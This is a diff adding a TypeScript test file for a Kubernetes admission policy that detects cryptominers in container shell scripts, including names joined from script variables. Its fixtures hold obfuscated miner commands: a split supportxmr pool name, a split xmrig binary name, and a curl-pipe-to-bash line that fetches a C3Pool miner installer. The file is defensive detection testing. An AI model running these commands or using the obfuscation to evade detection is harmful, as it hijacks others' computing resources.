@@ -1,0 +1,91 @@
+// A script joins names from variables it sets itself, not only from env values: `A=supp;
+// B=ortxmr; exec svc -o pool.$A$B.com` runs the pool with no env entry at all. Assignments a
+// script makes (at a command's start, with `export`, `local`, `readonly`) are read in order, as
+// the shell reads them, in `sh -c` scripts and in mounted files the container runs.
+import t from 'tap'
+import { ExpansionAllowance } from '../../src/detect/expansion.ts'
+import { expandScriptVariables } from '../../src/detect/shell-expansion.ts'
+import { evaluate } from '../../src/engine/evaluate.ts'
+import type { KubeObject, V1Container } from '../../src/workloads/kubernetes.ts'
+import { growthRatio, LINEAR_RATIO_LIMIT, repeatedTo } from '../helpers/linear-cost.ts'
+import { defaultPolicies } from '../helpers/server.ts'
+
+const policySet = await defaultPolicies()
+const SETUP = 'C3Pool/xmrig_setup/master/setup_c3pool_miner.sh'
+
+function verdicts(container: Partial<V1Container>, spec: object = {}, related: KubeObject[] = []): { action: string; message: string }[] {
+  const object = {
+    apiVersion: 'v1',
+    kind: 'Pod',
+    metadata: { name: 'p', namespace: 'ns' },
+    spec: { containers: [{ name: 'c', image: 'debian:12-slim', ...container }], ...spec },
+  }
+  return evaluate({ object, related }, policySet)
+    .findings.filter((finding) => finding.policy === 'miner-signals')
+    .map(({ action, message }) => ({ action, message }))
+}
+
+const scripts: [string, RegExp][] = [
+  ['A=supp; B=ortxmr; exec /opt/svc -o pool.$A$B.com -u worker1', /mining pool "pool\.supportxmr\.com"/],
+  [`M=mr\nexec /opt/bin/x\${M}ig --donate-level 1`, /miner program "xmrig"/],
+  [`export H=raw.githubusercontent; curl -sL https://$H.com/${SETUP} | bash`, /downloads a miner installer/],
+  [`A='supp'"ortxmr"; D=.com; /opt/svc -o "pool.$A$D" -u worker1`, /mining pool "pool\.supportxmr\.com"/],
+  ['P=pool.supportxmr; readonly P; T=$P.com; /opt/svc -o "$T" -u worker1', /mining pool "pool\.supportxmr\.com"/],
+  [`if true; then X=xm; fi && /opt/bin/\${X}rig --donate-level 1`, /miner program "xmrig"/],
+]
+
+t.test('names joined from variables a sh -c script sets itself are read', async (t) => {
+  for (const [script, sign] of scripts) {
+    const found = verdicts({ command: ['sh', '-c', script] })
+    t.equal(found[0]?.action, 'deny', `${JSON.stringify(script)}: ${JSON.stringify(found)}`)
+    t.match(found[0]?.message, sign, script)
+  }
+})
+
+t.test('names joined from variables a mounted script sets itself are read', async (t) => {
+  const spec = { volumes: [{ name: 's', configMap: { name: 'boot' } }] }
+  for (const [script, sign] of scripts) {
+    const configMap: KubeObject = {
+      apiVersion: 'v1',
+      kind: 'ConfigMap',
+      metadata: { name: 'boot', namespace: 'ns' },
+      data: { 'run.sh': `#!/bin/sh\n${script}\n` },
+    }
+    const found = verdicts({ command: ['sh', '/scripts/run.sh'], volumeMounts: [{ name: 's', mountPath: '/scripts' }] }, spec, [configMap])
+    t.equal(found[0]?.action, 'deny', `${JSON.stringify(script)}: ${JSON.stringify(found)}`)
+    t.match(found[0]?.message, sign, script)
+  }
+})
+
+t.test('an ordinary script that sets variables is admitted', async (t) => {
+  for (const script of [
+    'PORT=8080; HOST=0.0.0.0; exec /app/server --listen=$HOST:$PORT --name="$HOSTNAME"',
+    'set -e\nCONFIG=/etc/app/app.yaml\nexport LOG_LEVEL=info\n[ -f "$CONFIG" ] && exec /app/server --config="$CONFIG"',
+  ]) {
+    t.same(verdicts({ command: ['sh', '-c', script] }), [], script)
+  }
+})
+
+t.test('variables are read in order: a use before the assignment sees the earlier value', async (t) => {
+  const allowance = new ExpansionAllowance()
+  const env = new Map([['A', 'env']])
+  t.equal(expandScriptVariables(`echo $A; A=one; echo $A; A="t"wo; echo \${A}`, env, allowance), 'echo env; A=one; echo one; A="t"wo; echo two')
+  t.equal(expandScriptVariables('--name=x $B', env, allowance), '--name=x $B', 'an option with = is no assignment')
+  t.equal(expandScriptVariables('no assignment $A', env, allowance), 'no assignment env')
+})
+
+t.test('a script that doubles a variable again and again is refused at the expansion cap, not expanded', async (t) => {
+  const found = verdicts({ command: ['sh', '-c', `X=xxxxxxxxxxxxxxxx; ${'X=$X$X; '.repeat(40)}echo $X`] })
+  t.equal(found[0]?.action, 'deny')
+  t.match(found[0]?.message, /shell expansion takes this container's text past the cap/)
+})
+
+t.test('reading the assignments of a script stays linear in their number', async (t) => {
+  for (const unit of ['A=x;$A ', 'export B="y" ', 'C=$C; ']) {
+    const ratio = growthRatio(
+      (size) => repeatedTo(unit, size),
+      (text) => expandScriptVariables(text, new Map(), new ExpansionAllowance()),
+    )
+    t.ok(ratio < LINEAR_RATIO_LIMIT, `${JSON.stringify(unit)}: cost ratio ${ratio.toFixed(1)}`)
+  }
+})
